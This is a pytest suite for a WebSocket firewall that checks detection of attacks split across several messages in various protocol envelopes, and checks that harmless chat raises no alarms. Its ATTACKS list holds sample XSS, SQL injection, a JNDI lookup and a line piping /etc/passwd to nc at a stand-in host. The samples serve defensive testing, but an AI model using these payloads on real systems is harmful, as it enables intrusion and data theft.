"""Attacks that come in pieces, and talk that does not add up to one."""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Sequence
from dataclasses import replace

import pytest

from framewall.config.settings import engine_settings
from framewall.detect import builtin_engine
from framewall.fields.window import PREFIX, Window
from framewall.limits import WINDOW_BYTES, WINDOW_FIELDS, WINDOW_PART_BYTES, WINDOW_TEXTS
from framewall.model import Action, Event, Mode, Packet, Part, Upgrade
from framewall.pipeline import Inspector
from framewall.policy import Policy, RoutePolicy
from support.requests import SOCKETIO, text, upgrade

WATCHING = replace(RoutePolicy(), window=True)

ATTACKS = (
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "' UNION SELECT password FROM users -- ",
    "${jndi:ldap://evil.example/a}",
    "; cat /etc/passwd | nc evil.example 80",
)

HARMLESS = ["hello <im", "g src=x one", "rror=al", "ert(1)> you"]
"""Pieces of an attack, none of which is one."""

ENVELOPES: dict[str, tuple[str, str | None, Sequence[str], Callable[[str], str]]] = {
    "socket.io": (SOCKETIO, None, ["40"], lambda piece: "42" + json.dumps(["edit", {"text": piece}])),
    "signalr stream": (
        "/chat?id=abcdefghijklmnopqrstuvwxyz",
        None,
        ['{"protocol":"json","version":1}\x1e'],
        lambda piece: json.dumps({"type": 2, "invocationId": "1", "item": piece}) + "\x1e",
    ),
    "stomp": ("/ws", "v12.stomp", ["CONNECT\n\n\0"], lambda piece: f"SEND\ndestination:/doc\n\n{piece}\0"),
    "json": ("/ws", None, [], lambda piece: json.dumps({"type": "typed", "text": piece})),
    "text": ("/ws", None, [], lambda piece: piece),
}


def talk(route: RoutePolicy, envelope: str, pieces: Sequence[str]) -> tuple[list[Action], list[Event]]:
    """What happens to each of these pieces of one client, sent one after another."""
    target, subprotocol, before, wrap = ENVELOPES[envelope]
    events: list[Event] = []
    inspector = Inspector(
        Policy(default=route), builtin_engine(), events.append, lambda: 0.0, settings=engine_settings
    )
    session = inspector.open(1, upgrade(target), Upgrade(subprotocol))
    for each in before:
        assert inspector.message(session, text(each)).action is Action.PASS
    return [inspector.message(session, text(wrap(piece))).action for piece in pieces], events


def split(attack: str, count: int) -> list[str]:
    """In about equal pieces."""
    size = -(-len(attack) // count)
    return [attack[at : at + size] for at in range(0, len(attack), size)]


@pytest.mark.parametrize("count", [2, 3, 4])
@pytest.mark.parametrize("envelope", ENVELOPES)
def test_an_attack_in_pieces_is_found_with_its_last(envelope: str, count: int) -> None:
    """In consecutive messages of one field; its name says that texts were put together."""
    for attack in ATTACKS:
        actions, events = talk(WATCHING, envelope, split(attack, count))
        assert Action.CLOSE in actions, attack
        assert any(finding.field.startswith(PREFIX) for event in events for finding in event.findings) or (
            actions[0] is Action.CLOSE
        )


def test_without_the_setting_pieces_are_judged_alone() -> None:
    """Else the test above would say nothing."""
    actions, events = talk(RoutePolicy(), "socket.io", HARMLESS)
    assert (actions, events) == ([Action.PASS] * len(HARMLESS), [])


def test_an_attack_typed_by_the_character_is_found() -> None:
    """A message a key."""
    actions, events = talk(WATCHING, "socket.io", list("hi <img src=x onerror=alert(1)>"))
    assert Action.CLOSE in actions
    assert events[0].attacks == ("xss",)
    assert events[0].findings[0].field == 'window.event["edit"].args[0].text'


def test_pieces_in_the_places_of_one_list_are_put_together() -> None:
    """As an application may that joins its arguments."""
    inspector = Inspector(Policy(default=WATCHING), builtin_engine(), lambda _: None, lambda: 0.0)
    session = inspector.open(1, upgrade(SOCKETIO), Upgrade())
    said = "42" + json.dumps(["say", HARMLESS])
    verdict = inspector.message(session, text(said))
    assert verdict.action is Action.CLOSE
    assert verdict.findings[0].field == 'window.event["say"].args[0]'


def test_other_fields_in_between_do_not_hide_it() -> None:
    """Each field has its own memory."""
    inspector = Inspector(Policy(default=WATCHING), builtin_engine(), lambda _: None, lambda: 0.0)
    session = inspector.open(1, upgrade(SOCKETIO), Upgrade())
    actions = []
    for piece in split("<script>alert(document.cookie)</script>", 3):
        inspector.message(session, text("42" + json.dumps(["typing", "somebody"])))
        actions.append(inspector.message(session, text("42" + json.dumps(["edit", 7, piece]))).action)
    assert actions[-1] is Action.CLOSE


def test_monitoring_records_it_once() -> None:
    """What has been found is forgotten."""
    pieces = [*HARMLESS[:2], "that", "was", "it"]
    actions, events = talk(replace(WATCHING, mode=Mode.MONITOR), "socket.io", pieces)
    assert (set(actions), len(events)) == ({Action.PASS}, 1)


LINES = (
    "hi", "hello there", "don't you think?", "it's fine", "1 < 2", "ok :-)", "<3", "lol;", "no -- yes!",
    "select the best one from the menu", "where we ate", "see you at 5 o'clock", "drop me a line", "50% off (or so)",
    "= fun", "what? really?", "union square, table 4", "http://example.com/a?b=c", "'quoted'",
    "#deal @ann", "{x}", "[y]", "user's `code`", "update me", "or not", "set it to 5", "if (you) can", "it's 'ok'",
    "delete that photo please", "a/b/c", "../ is up one", "\U0001f600\U0001f600", "C:\\temp", "x = y + 1", "the end.",
    "cat pictures", "ping me; then call", "echo chamber | noise", "is 7 = 7?", "name: value", '"so" they said', "a=b",
)  # fmt: skip


@pytest.mark.parametrize("envelope", ENVELOPES)
def test_talk_does_not_add_up_to_an_attack(envelope: str) -> None:
    """A long chat in short messages, punctuation and all, in every order that chance makes."""
    chance = random.Random(7)
    for _ in range(4):
        _, events = talk(WATCHING, envelope, chance.choices(LINES, k=80))
        assert [(event.findings[0].rule, event.findings[0].match) for event in events] == []


def part(data: str, label: str = "message") -> Packet:
    """A packet of one text."""
    return Packet("text", "", "message", (Part(data.encode(), "text", False, label),))


def said(window: Window, packet: Packet) -> list[bytes]:
    """What is to be judged besides."""
    return [each.data for found in window.add([packet]) for each in found.parts]


def test_the_memory_is_bounded() -> None:
    """By texts, by bytes and by fields; what is long is judged alone."""
    window = Window()
    for _ in range(WINDOW_TEXTS.default * 2):
        last = said(window, part("a"))
    assert last == [b"a" * WINDOW_TEXTS.default]
    assert said(window, part("b" * (WINDOW_BYTES.default - 1))) == [b"a" + b"b" * (WINDOW_BYTES.default - 1)]
    assert said(window, part("c" * (WINDOW_PART_BYTES.default + 1))) == []
    for number in range(WINDOW_FIELDS.default):
        said(window, part("x", f"field{number}"))
    assert said(window, part("y")) == [], "its field was forgotten"


def test_numbers_and_names_are_no_texts() -> None:
    """Only what is typed is put together."""
    window = Window()
    packet = Packet("json", "", "message", (Part(b'{"a":1,"b":true}', "json"), Part(b"name", "text", True)))
    assert said(window, packet) == []
    assert said(window, packet) == []
